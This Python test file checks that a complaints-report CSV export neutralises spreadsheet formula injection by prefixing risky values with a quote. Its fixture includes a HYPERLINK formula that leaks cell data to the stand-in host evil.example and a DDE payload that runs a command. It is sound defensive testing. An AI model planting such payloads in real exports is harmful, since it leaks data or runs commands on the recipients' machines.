"""CSV exports neutralise spreadsheet formulas from public fields (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io
from typing import Any

from services.reporting import exports

NAME = "complaints_status_and_deadlines"


class OneRowView:
    """Just the one method `export` reads of a view (fast unit test, no store needed)."""

    def __init__(self, row: dict[str, Any]) -> None:
        self.row = row

    def rows(self, name: str) -> list[dict[str, Any]]:
        assert name == NAME
        return [self.row]


def test_a_formula_in_a_public_field_reaches_the_spreadsheet_as_text() -> None:
    hostile = {
        "category": '=HYPERLINK("http://evil.example/?"&A1,"klik")',
        "channel": "+1+cmd|' /C calc'!A0",
        "resolution": "-2+3",
        "outcome": "@SUM(1)",
        "language": "\tnl",
        "reference": "K-2026-000001",
        "escalation_level": -1,  # a number stays a number
    }
    text = "".join(exports.export(NAME, "csv", link=None, view=OneRowView(hostile)))  # type: ignore[arg-type]
    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
    for field in ("category", "channel", "resolution", "outcome", "language"):
        assert row[field] == "'" + hostile[field], field
    assert row["reference"] == "K-2026-000001"
    assert row["escalation_level"] == "-1"


def test_json_lines_keep_the_value_as_it_was() -> None:
    view = OneRowView({"category": "=1+1"})
    [line] = exports.export(NAME, "jsonl", link=None, view=view)  # type: ignore[arg-type]
    assert '"category": "=1+1"' in line


def test_a_carriage_return_first_is_neutralised_too() -> None:
    assert exports.spreadsheet_safe("\r=1") == "'\r=1"
    assert exports.spreadsheet_safe("gewoon") == "gewoon"
    assert exports.spreadsheet_safe(3) == 3
